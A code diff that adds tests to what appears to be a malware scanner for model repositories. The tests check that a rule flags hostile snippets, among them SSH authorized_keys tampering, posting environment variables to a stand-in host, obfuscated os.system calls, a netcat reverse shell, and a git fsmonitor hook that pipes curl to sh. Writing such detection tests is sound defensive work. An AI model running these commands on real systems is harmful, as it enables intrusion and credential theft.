@@ -61,3 +61,21 @@ describe('numbers of weights', () => {
     expect(await judge(weights(values))).toEqual(['high ASY-EXE-004']);
   });
 });
+
+describe('scripts', () => {
+  it.each([
+    ['a.py', "open(os.path.expanduser('~/.ssh/authorized_keys'), 'a').write(key)"],
+    ['a.py', "requests.post('https://x.test', json=dict(os.environ))"],
+    ['a.py', "getattr(__import__('o' + 's'), 'sys' + 'tem')('x')"],
+    ['a.sh', 'nc -e /bin/sh host.test 4444'],
+    ['a.desktop', '[Desktop Entry]\nExec=sh -c "x"'],
+    ['.git/config', '[core]\n\tfsmonitor = "curl http://x.test | sh"'],
+    ['sitecustomize.py', 'import os'],
+  ])('%s: %s', async (path, text) => {
+    expect(await findingsOf(programs, [textFile(path, text)])).toMatchObject([{ rule: 'ASY-EXE-002' }]);
+  });
+
+  it('leave alone what ordinary code does', async () => {
+    for (const text of ['import os, subprocess\nsubprocess.run(["nvcc", "--version"])\nmodel.eval()', 'url = https://x.test/a.git\nopen = yes', 'pip install git+https://github.com/someone/package.git']) expect(alarms(await findingsOf(programs, [textFile('a.py', text)]))).toEqual([]);
+  });
+});
